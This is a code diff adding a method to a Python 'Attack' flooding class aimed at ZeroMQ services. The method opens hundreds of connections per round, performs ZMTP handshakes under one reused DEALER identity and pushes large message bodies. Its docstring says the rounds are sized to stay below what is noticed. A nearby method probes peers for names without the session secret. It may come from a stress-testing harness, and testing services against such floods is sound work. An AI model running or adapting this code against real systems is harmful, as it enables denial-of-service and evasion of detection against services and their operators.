@@ -91,6 +91,27 @@ class Attack(Flood):
             if len(held) > 20:
                 held.pop(0).close()
 
+    def rounds_of_an_id(self) -> None:
+        """The same in rounds of hundreds, each with less than what is noticed of one."""
+        ready = zmtp.GREETING + zmtp.ready(b"DEALER", b"the same")
+        body = zmtp.message(b"SAY", b"1", b"", b"attack", b"x" * 60000) * 20
+        while self.goes_on():
+            held = []
+            for _ in range(400):
+                try:
+                    connection = self.wire(self.door, 1.0)
+                    held.append(connection)
+                    connection.sendall(ready)
+                    connection.recv(64)
+                    connection.sendall(body)
+                except OSError:
+                    counted["refused"] += 1
+                if not self.goes_on():
+                    break
+            counted["made"] += len(held)
+            for connection in held:
+                connection.close()
+
     def others_names(self) -> None:
         """Who is here is asked for their name, again and again, without the session's secret."""
         doors = [self.stranger() for _ in range(4)]
